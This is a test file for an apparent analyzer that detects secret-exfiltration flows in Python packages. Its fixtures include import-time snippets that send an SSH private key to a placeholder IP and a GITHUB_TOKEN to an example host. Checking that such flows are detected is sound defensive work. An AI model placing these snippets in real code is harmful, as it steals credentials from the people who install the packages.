import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

describe("Python 2 and broken code", () => {
  it("analyzes Python 2 syntax", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import urllib, urllib2, os
        print "starting"
        try:
            key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
        except IOError, e:
            key = ''
        exec "x = 1"
        urllib2.urlopen('http://198.51.100.23/u.php', urllib.urlencode({'k': key}))
      `,
    });
    expect(facts.parseProblems).toEqual([]);
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:4 -> http@pkg/__init__.py:8 http://198.51.100.23/u.php [import]"]);
  });

  it("a file with syntax errors yields facts and a ParseProblem", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        def broken(:
            pass
        requests.post("https://x.example.com", data=os.environ["GITHUB_TOKEN"])
      `,
      "pkg/ok.py": "x = 1\n",
    });
    expect(facts.parseProblems).toHaveLength(1);
    expect(facts.parseProblems[0]!.file).toBe("pkg/__init__.py");
    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:4 -> http@pkg/__init__.py:4 https://x.example.com [import]"]);
    expect(facts.filesAnalyzed).toBe(2);
  });

  it("survives deep nesting, huge literals and recursion", async () => {
    const deep = "x = " + "(".repeat(3000) + "1" + ")".repeat(3000) + "\n";
    const list = "y = [" + Array.from({ length: 50000 }, (_, i) => i).join(", ") + "]\n";
    const recursion = "def f(n):\n    return f(n - 1) + g(n)\ndef g(n):\n    return f(n)\nf(3)\n";
    const facts = await analyze({ "pkg/a.py": deep, "pkg/b.py": list, "pkg/c.py": recursion });
    expect(facts.filesAnalyzed).toBe(3);
  });

  it("ignores non-Python files and .pth lines that are paths", async () => {
    const facts = await analyze({ "README.md": "import os", "x.pth": "/usr/lib/foo\n" });
    expect(facts.filesAnalyzed).toBe(0);
    expect(facts.parseProblems).toEqual([]);
  });
});

describe("bounded work on real code", () => {
  it("a loop over a list its body appends to (a work queue) runs over the items it started with", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import requests
        path = ""
        queue = ["a", "b"]
        for name in queue:
            path = path + name
            queue.append(name)
        requests.get("https://x.example.com/" + path)
      `,
    });
    expect(facts.sinks.map((s) => s.destination)).toEqual(["https://x.example.com/ab"]);
  });
});
